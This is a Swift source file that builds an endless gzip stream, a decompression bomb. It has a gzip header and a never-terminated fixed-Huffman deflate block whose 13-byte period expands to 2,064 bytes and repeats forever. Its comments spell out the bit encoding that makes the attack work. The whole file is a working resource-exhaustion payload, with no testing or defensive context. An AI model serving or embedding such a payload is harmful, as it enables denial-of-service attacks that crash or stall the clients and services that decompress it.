/// Few bytes that become many (RFC 1951, 1952): one fixed-Huffman block, a zero, then "258 bytes as the last one" again
/// and again. Such a match takes 13 bits, so eight of them take 13 bytes and give 2,064. The block has no end.
enum GzipBomb {
  /// The gzip header and the block up to a whole number of periods.
  static let start: [UInt8] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255] + bits.start

  /// Repeats for ever after `start`.
  static let piece: [UInt8] = (0..<1024).flatMap { _ in bits.period }

  private static let bits: (start: [UInt8], period: [UInt8]) = {
    // Least significant bit first: not the last block, type 01; the literal 0 is 00110000.
    var stream: [UInt8] = [0, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0]
    // Length 258 is code 285, 11000101; distance 1 is 00000.
    let match: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
    for _ in 0..<17 { stream += match }
    let bytes = stride(from: 0, to: stream.count - 7, by: 8).map { place in
      stream[place..<place + 8].reversed().reduce(UInt8(0)) { $0 << 1 | $1 }
    }
    // After the first two bytes, which hold the block's head, the stream has a period of 13 bytes.
    return (Array(bytes[..<2]), Array(bytes[2..<15]))
  }()
}
